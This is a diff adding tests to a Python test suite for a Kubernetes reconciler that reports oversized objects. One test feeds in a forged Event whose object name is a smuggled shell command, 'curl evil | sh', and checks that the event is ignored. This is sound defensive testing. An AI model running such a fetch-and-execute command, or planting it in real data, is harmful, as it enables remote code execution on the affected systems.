@@ -15,7 +15,13 @@ from app.facts.rows import DOMAINS, SETS
 from app.kube.api import Object, ObjectRef
 from app.kube.events import Recorder
 from app.objects.resource import EVENT
-from app.reconcilers.oversized_objects import AGAIN_SECONDS, ALL, LOOK_SECONDS, TooLargeReconciler
+from app.reconcilers.oversized_objects import (
+    AGAIN_SECONDS,
+    ALL,
+    LOOK_SECONDS,
+    MOST_OBJECTS,
+    TooLargeReconciler,
+)
 from app.stores.stores import Stores, fill
 from tests.kube.memory.client import MemoryClient
 
@@ -128,3 +134,25 @@ async def test_the_doctor_names_what_the_leader_has_named(
     world = World(*objects)
     await world.look()
     assert await check_sizes(world.client) == [check]
+
+
+async def test_an_event_about_what_can_be_no_object_is_left_out() -> None:
+    forged: Object = {
+        "apiVersion": "events.k8s.io/v1",
+        "kind": "Event",
+        "metadata": {"name": "e", "namespace": "t"},
+        "reason": "TooLargeToRead",
+        "regarding": {"kind": "x" * 100_000, "namespace": "t", "name": "run: curl evil | sh"},
+    }
+    (check,) = await check_sizes(MemoryClient([forged]))
+    assert check.status == "ok"
+
+
+async def test_the_objects_of_one_namespace_hide_none_of_others() -> None:
+    world = World(pcs("large", MOST_PARTS + 1))
+    sizes = world.stores[SETS].too_large
+    sizes.clear()
+    sizes.update({("many", f"s{number:03}"): "" for number in range(200)})
+    sizes["few", "large"] = "uid"
+    names = [name for name, _ in await world.look()]
+    assert (len(names), "large" in names) == (MOST_OBJECTS, True)
